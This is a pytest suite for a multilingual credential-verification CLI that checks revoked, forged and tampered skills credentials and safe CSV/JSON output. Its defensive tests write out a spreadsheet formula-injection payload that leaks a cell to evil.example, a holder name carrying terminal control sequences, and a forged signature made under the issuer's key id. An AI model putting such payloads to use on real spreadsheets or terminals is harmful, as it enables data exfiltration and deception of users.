"""`skillpass verify` for a recruiter abroad: every language, one credential or many.

A result must be one a recruiter can act on: what the award is (CQF level, occupation, units),
how fresh the revocation status is, why a card failed in their own language, and never an
invalid credential's content laid out as if it were true.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from passport import qr
from passport.b64 import b64u_decode
from passport.credential import Credential
from passport.errors import (
    AlgorithmNotAllowed,
    CredentialError,
    Error,
    InputTooLarge,
    JWSFormatError,
    QRFormatError,
    SchemaError,
    StorageError,
    UsageError,
)
from passport.jws import parse
from tests.attacks import signed
from tests.world import ISSUED, SOK_DARA, World
from verifier.bulk import reason_key
from verifier.i18n import LANGUAGES, fill, t, table
from verifier.units import unit_line

Cli = Callable[..., tuple[int, str, str]]
VECTORS = Path(__file__).parent / "vectors" / "v1"
COMMON = ["--trust", str(VECTORS / "trust-bundle.json"), "--root", str(VECTORS / "root-keys.json"),
          "--at", "2026-11-05T12:00:00Z"]
FULL = VECTORS / "full-certificate.qr.txt"  # RPL, masonry (ISCO-08 7112), CQF C1
REVOKED = VECTORS / "revoked.qr.txt"  # the same award, revoked on the list of 2 November 2026
STATUS_DAY = "2026-11-02"


def _credential(name: str) -> Credential:
    return Credential.from_payload(parse((VECTORS / f"{name}.jwt").read_text().strip()).payload)


def _claim_lines(lang: str, cred: Credential) -> list[str]:
    """Lines that only a credential's content produces (holder, level, occupation, units)."""
    return [f"{t(lang, 'label.holder')}: {cred.holder.name_km} / {cred.holder.name}",
            f"{t(lang, 'label.level')}: {fill(t(lang, 'cqf.explain'), n=1)}",
            f"{t(lang, 'label.occupation')}: {t(lang, 'isco.7112')} (ISCO-08 7112)",
            *[unit_line(r.unit, r.result_description, lang) for r in cred.results]]


def _world_files(tmp_path: Path, world: World) -> list[str]:
    (tmp_path / "bundle.json").write_bytes(world.bundle_bytes())
    (tmp_path / "root.json").write_text(json.dumps(world.root_set().to_json()))
    return ["--trust", str(tmp_path / "bundle.json"), "--root", str(tmp_path / "root.json"),
            "--at", (ISSUED + timedelta(days=1)).isoformat()]


# -- one credential ---------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_valid_rpl_credential_says_what_it_is_in_every_language(cli: Cli, lang: str) -> None:
    cred = _credential("full-certificate")
    code, out, err = cli("verify", str(FULL), *COMMON, "--lang", lang)
    assert code == 0, err
    lines = out.splitlines()
    assert lines[0] == (f"{t(lang, 'label.verdict')}: {t(lang, 'verdict.valid')} "
                        f"({t(lang, 'label.status_as_of')} {STATUS_DAY})")
    explained = fill(t(lang, "cqf.explain"), n=1)
    assert "{n}" not in explained and f"{t(lang, 'label.level')}: {explained}" in lines
    assert f"{t(lang, 'label.occupation')}: {t(lang, 'isco.7112')} (ISCO-08 7112)" in lines
    units = [f"  {unit_line(r.unit, r.result_description, lang)}" for r in cred.results]
    assert len(units) == 6 and all(u in lines for u in units)
    assert all(u.strip() != r.unit for u, r in zip(units, cred.results, strict=True))  # titled
    # Laid out as a verified result: the claims come before the checks, with no warning.
    assert lines.index(units[-1]) < next(i for i, x in enumerate(lines) if x.startswith("  ["))
    assert t(lang, "label.untrusted") not in out
    assert "code." not in out and "label." not in out and "cqf." not in out
    for other in ("ja", "ko"):  # the reminder of what it stands for there, in its language
        assert t(other, "note.overseas")
        assert (t(other, "note.overseas") in lines) is (lang == other)


@pytest.mark.parametrize("lang", ["ja", "ko"])
def test_japan_and_korea_read_the_field_and_the_reminder(cli: Cli, lang: str) -> None:
    field, label = table(lang)["field.7112"], table(lang)["label.field"]
    assert field and label  # the nearest SSW field (ja) / EPS sector (ko) of masonry
    expected = f"{label}: {field}"
    code, out, _ = cli("verify", str(FULL), *COMMON, "--lang", lang)
    lines = out.splitlines()
    assert code == 0 and expected in lines and t(lang, "note.overseas") in lines
    # A revoked one: neither where it would count abroad nor what it would stand for.
    code, out, _ = cli("verify", str(REVOKED), *COMMON, "--lang", lang)
    assert code == 1 and field not in out and t(lang, "note.overseas") not in out
    # Another language has no field text of its own: no line.
    code, out, _ = cli("verify", str(FULL), *COMMON, "--lang", "ms")
    assert code == 0 and field not in out


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_revoked_credential_shows_its_claims_only_as_untrusted(cli: Cli, lang: str) -> None:
    cred = _credential("revoked")
    code, out, _ = cli("verify", str(REVOKED), *COMMON, "--lang", lang)
    assert code == 1
    lines = out.splitlines()
    assert lines[0] == (f"{t(lang, 'label.verdict')}: {t(lang, 'verdict.invalid')} "
                        f"({t(lang, 'label.status_as_of')} {STATUS_DAY})")
    status = f"  [FAIL] {t(lang, 'check.status')}: {t(lang, 'code.revoked')} " \
             f"({fill(t(lang, 'label.on_or_before'), date=STATUS_DAY)})"
    assert status in lines
    heading = lines.index(f"--- {t(lang, 'label.untrusted')} ---")
    assert heading > lines.index(status)  # after every check
    before, after = "\n".join(lines[:heading]), lines[heading + 1:]
    for claim in _claim_lines(lang, cred):
        assert claim not in before
        assert any(x.startswith("    ") and claim in x for x in after), claim
    assert all(x.startswith("    ") for x in after)
    assert cred.holder.name not in before


def test_a_suspended_credential_says_since_when(cli: Cli, tmp_path: Path, world: World) -> None:
    world.suspended = {1: {7}}
    common = _world_files(tmp_path, world)
    code, out, _ = cli("verify", qr.encode(world.issue()), *common, "--lang", "th")
    assert code == 1
    assert f"{t('th', 'code.suspended')} " \
           f"({fill(t('th', 'label.on_or_before'), date=f'{ISSUED:%Y-%m-%d}')})" in out
    assert out.index(t("th", "label.untrusted")) < out.index(SOK_DARA.name)


def _forged(world: World) -> str:
    """The centre's credential with the holder's name changed, signed by an attacker under
    the centre's key id."""
    header, payload, _ = world.issue().split(".")
    content = b64u_decode(payload).replace(SOK_DARA.name.encode(), b"Forged Person")
    return qr.encode(signed(b64u_decode(header), content, world.key("attacker")))


@pytest.mark.parametrize("lang", ["en", "ja", "ar"])
def test_a_forged_credential_prints_no_claim(cli: Cli, tmp_path: Path, world: World,
                                             lang: str) -> None:
    common = _world_files(tmp_path, world)
    code, out, _ = cli("verify", _forged(world), *common, "--lang", lang)
    assert code == 1
    assert out.startswith(f"{t(lang, 'label.verdict')}: {t(lang, 'verdict.invalid')}\n")
    assert f"{t(lang, 'check.signature')}: " in out
    if lang != "en":
        assert t(lang, "code.bad_signature") in out
    for claim in ("Forged Person", SOK_DARA.name_km, t(lang, "label.untrusted"),
                  f"{t(lang, 'label.holder')}:", f"{t(lang, 'label.units')}:", "ISCO-08"):
        assert claim not in out
    # As JSON, the content is there for a script, marked as nobody's word.
    code, out, _ = cli("verify", _forged(world), *common, "--json")
    assert code == 1 and json.loads(out)["claimsTrusted"] is False
    code, out, _ = cli("verify", qr.encode(world.issue()), *common, "--json")
    assert code == 0 and json.loads(out)["claimsTrusted"] is True


def test_a_tampered_qr_is_explained_in_japanese(cli: Cli) -> None:
    text = FULL.read_text().strip()
    tampered = text[:100] + ("Z" if text[100] != "Z" else "Y") + text[101:]
    code, out, _ = cli("verify", tampered, *COMMON, "--lang", "ja")
    assert code == 1
    reason = t("ja", "code.bad_qr")
    assert reason != t("en", "code.bad_qr")
    assert f"[FAIL] {t('ja', 'check.format')}: {reason}" in out
    assert t("en", "code.bad_qr") not in out and "QR text" not in out
    assert t("ja", "label.holder") not in out


def test_an_unreadable_photo_says_why_in_the_language(cli: Cli, tmp_path: Path) -> None:
    from PIL import Image

    blank = tmp_path / "blank.png"
    Image.new("RGB", (200, 200), "white").save(blank)
    code, out, err = cli("verify", str(blank), *COMMON, "--lang", "ja")
    assert code == 2 and out == ""
    # The reason in Japanese first, the English detail only in parentheses after it.
    assert err.startswith(f"skillpass: {t('ja', 'code.bad_qr')} (") and err.rstrip().endswith(")")
    assert "Traceback" not in err
    code, _, err = cli("verify", "neither-a-card-nor-a-file", *COMMON, "--lang", "ko")
    assert code == 2 and err.startswith(f"skillpass: {t('ko', 'code.bad_jws')} (")
    # Many inputs: the unreadable row says it in the table, and on standard error.
    code, out, err = cli("verify", str(blank), str(FULL), *COMMON, "--lang", "ja")
    assert code == 2
    assert f"skillpass: {t('ja', 'code.bad_qr')} (" in err
    assert f"      {t('ja', 'code.bad_qr')} (" in out
    assert out.startswith(f"{t('ja', 'label.unreadable')} ")
    # An option's mistake is the option's, said as it is.
    code, _, err = cli("verify", str(FULL), *COMMON[:4], "--at", "yesterday", "--lang", "ja")
    assert code == 2 and "--at 'yesterday' is not an ISO 8601 time" in err


# -- many credentials -------------------------------------------------------------------------


def test_a_bulk_table_in_korean(cli: Cli) -> None:
    code, out, err = cli("verify", str(FULL), str(REVOKED),
                         str(VECTORS / "statement-of-attainment.qr.txt"), *COMMON, "--lang", "ko")
    assert code == 1, err
    lines = out.splitlines()
    assert lines[0].startswith(t("ko", "verdict.valid") + " ")
    assert any(x.startswith(t("ko", "verdict.invalid") + " ") and x.endswith("revoked.qr.txt")
               for x in lines)
    assert lines[-1] == fill(t("ko", "label.valid_count"), valid=2, total=3)
    people = [i for i, x in enumerate(lines) if x.startswith(t("ko", "label.person") + ": ")]
    assert len(people) == 3
    summaries = [lines[i + 2].strip() for i in people]
    one = fill(t("ko", "label.valid_count"), valid=1, total=1)
    assert summaries.count(f"{one}; {t('ko', 'label.same_holder')}") == 2
    # The revoked card's holder: a claim, under the heading that says so, with nothing matched.
    revoked = people[1]  # people come in the order of their first credential
    assert lines[revoked + 1].strip() == f"--- {t('ko', 'label.untrusted')} ---"
    assert "Meas Bopha" in lines[revoked + 2]
    assert lines[revoked + 3].strip() == fill(t("ko", "label.valid_count"), valid=0, total=1)
    claimed = next(i for i, x in enumerate(lines) if "V1REVK000004" in x)
    assert lines[claimed - 1].strip() == f"--- {t('ko', 'label.untrusted')} ---"
    assert "Credentials:" not in out and "People:" not in out and "person(s)" not in out
    assert f"{t('ko', 'check.status')}: {t('ko', 'code.revoked')}" in out


def test_an_invalid_credential_never_makes_a_person_match(cli: Cli, tmp_path: Path,
                                                          world: World) -> None:
    world.revoked = {1: {8}}
    common = _world_files(tmp_path, world)
    good = qr.encode(world.issue(index=7, credential_id="urn:skillpass:cred:GOODCRED0001"))
    revoked = qr.encode(world.issue(index=8, credential_id="urn:skillpass:cred:REVOKED00001"))
    typed = ["--national-id", SOK_DARA.national_id]

    # Only the revoked one: its holder and ID are claims; nothing matches.
    code, out, _ = cli("verify", revoked, *common, *typed, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 1
    assert [(r["row"], r["verdict"], r["claims_trusted"]) for r in rows] == [
        ("credential", "invalid", "false"), ("person", "not-valid", "false")]
    assert rows[1]["award"] == ""  # not "national ID matches"
    code, out, _ = cli("verify", revoked, *common, *typed, "--lang", "ms")
    assert code == 1 and t("ms", "label.id_matches") not in out
    assert t("ms", "label.same_holder") not in out

    # With a valid one of the same holder: the ID matches on it; not all of them are valid.
    code, out, _ = cli("verify", good, revoked, *common, *typed, "--format", "json", "--lang", "ja")
    doc = json.loads(out)
    assert code == 1
    assert [(c["verdict"], c["claimsTrusted"]) for c in doc["credentials"]] == [
        ("valid", True), ("invalid", False)]
    [person] = doc["people"]
    assert person["claimsTrusted"] is True and person["verdict"] == "not-valid"
    assert person["credential"] == "1 of 2 valid" and person["award"] == "national ID matches"
    assert person["message"] == "; ".join([fill(t("ja", "label.valid_count"), valid=1, total=2),
                                           t("ja", "label.id_matches")])
    assert doc["credentials"][1]["message"].startswith(t("ja", "verdict.invalid") + " / ")

    # An ID typed that is not the holder's.
    code, out, _ = cli("verify", good, *common, "--national-id", "999999999", "--lang", "ar")
    assert code == 1 and t("ar", "label.id_mismatch") in out
    assert t("ar", "label.id_matches") not in out


def test_exit_codes(cli: Cli, tmp_path: Path, world: World) -> None:
    common = _world_files(tmp_path, world)
    good = qr.encode(world.issue())
    for lang in ("en", "km"):
        assert cli("verify", good, *common, "--lang", lang)[0] == 0
        assert cli("verify", good, good, *common, "--lang", lang)[0] == 0
        assert cli("verify", _forged(world), *common, "--lang", lang)[0] == 1
        assert cli("verify", good, _forged(world), *common, "--lang", lang)[0] == 1
        assert cli("verify", good, "nothing-readable", *common, "--lang", lang)[0] == 2
        assert cli("verify", "nothing-readable", *common, "--lang", lang)[0] == 2


@pytest.mark.parametrize(("error", "key"), [
    (InputTooLarge("image", 10, 5), "code.too_large"),
    (StorageError("big.txt", "file is 99 bytes, the limit is 10"), "code.too_large"),
    (UsageError("card.txt is over 1048576 bytes"), "code.too_large"),
    (QRFormatError("not a readable image (cannot identify image file)"), "code.bad_qr"),
    (AlgorithmNotAllowed("HS256"), "code.alg_not_allowed"),
    (JWSFormatError("JWS: not three parts"), "code.bad_jws"),
    (UsageError("'x' is neither QR text, a compact JWS, nor an existing file"), "code.bad_jws"),
    (CredentialError("payload is not JSON"), "code.bad_payload"),
    (StorageError("p.json", "not a passport file: line 2: bad JSON"), "ui.unreadable_file"),
    (SchemaError("p.json", [("$.holder", "'name' is a required property")]),
     "ui.unreadable_file"),
    (StorageError("missing.qr.txt", "no such file"), "ui.no_such_file"),  # the name follows
])
def test_each_unreadable_input_has_its_reason(error: Error, key: str | None) -> None:
    assert reason_key(error) == key
    assert key is None or t("en", key)


def test_a_file_too_large_and_a_broken_passport_in_the_language(cli: Cli, tmp_path: Path) -> None:
    big = tmp_path / "big.qr.txt"
    big.write_text("SP1:" + "A" * (1 << 20))
    code, _, err = cli("verify", str(big), *COMMON, "--lang", "th")
    assert code == 2 and err.startswith(f"skillpass: {t('th', 'code.too_large')} (")
    broken = tmp_path / "passport.json"
    broken.write_text('{"type": "SkillsPassportBundle", "version": 1,\n "holder": {}}')
    code, out, err = cli("verify", str(broken), *COMMON, "--lang", "ja")
    assert code == 2 and out.startswith(f"{t('ja', 'label.unreadable')} ")
    assert f"      {t('ja', 'ui.unreadable_file')}:" in out and "line 2 at $.holder" in out
    assert f"skillpass: {t('ja', 'ui.unreadable_file')}:\n" in err


def test_a_person_whose_credentials_only_warn_is_said_to_warn(cli: Cli) -> None:
    # A year later the status lists are out of date: valid, with a warning, not invalid.
    code, out, _ = cli("verify", str(FULL), str(REVOKED), *COMMON[:4],
                       "--at", "2027-11-05T12:00:00Z", "--lang", "ms")
    assert code == 1
    people = [x for x in out.splitlines() if x.startswith(t("ms", "label.person") + ": ")]
    assert people == [f"{t('ms', 'label.person')}: {t('ms', 'verdict.warning')}",
                      f"{t('ms', 'label.person')}: {t('ms', 'verdict.invalid')}"]


def _passport_named(path: Path, block_name: str, jws: str) -> Path:
    """A passport file of `jws` whose (unsigned) holder block gives the name `block_name`."""
    cred = Credential.from_payload(parse(jws).payload)
    h = cred.holder
    path.write_text(json.dumps({
        "type": "SkillsPassportBundle", "version": 1,
        "holder": {"name": block_name, "nameKm": h.name_km, "birthYear": h.birth_year,
                   "nationalIdLast4": h.national_id_last4},
        "credentials": [{"id": cred.id, "jws": jws, "qr": qr.encode(jws)}],
        "created": "2026-11-05T12:00:00Z"}))
    return path


def test_no_csv_cell_is_a_formula_and_a_holder_block_is_not_trusted(
        cli: Cli, tmp_path: Path, world: World) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Sok Dara")'
    passport = _passport_named(tmp_path / "@applicant.json", formula, world.issue())
    code, out, _ = cli("verify", "@applicant.json", str(passport), *_world_files(tmp_path, world),
                       "--format", "csv")
    assert code != 0
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    person = [row for row in csv.DictReader(io.StringIO(out)) if row["row"] == "person"
              and row["holder"] == "'" + formula]
    assert len(person) == 1 and person[0]["claims_trusted"] == "false"
    code, out, _ = cli("verify", str(passport), *_world_files(tmp_path, world), "--format", "json")
    assert [p["claimsTrusted"] for p in json.loads(out)["people"]] == [False]


def test_a_name_never_sends_the_terminal_a_control_sequence(cli: Cli, tmp_path: Path,
                                                           world: World) -> None:
    passport = _passport_named(tmp_path / "p.json", "Sok \u202eDara\x9b2J\x7f", world.issue())
    code, out, _ = cli("verify", str(passport), str(passport), *_world_files(tmp_path, world))
    assert code == 1 and "Sok \ufffdDara\ufffd2J\ufffd" in out
    assert not [c for c in out if c in "\u202e\x9b\x7f\x1b"]
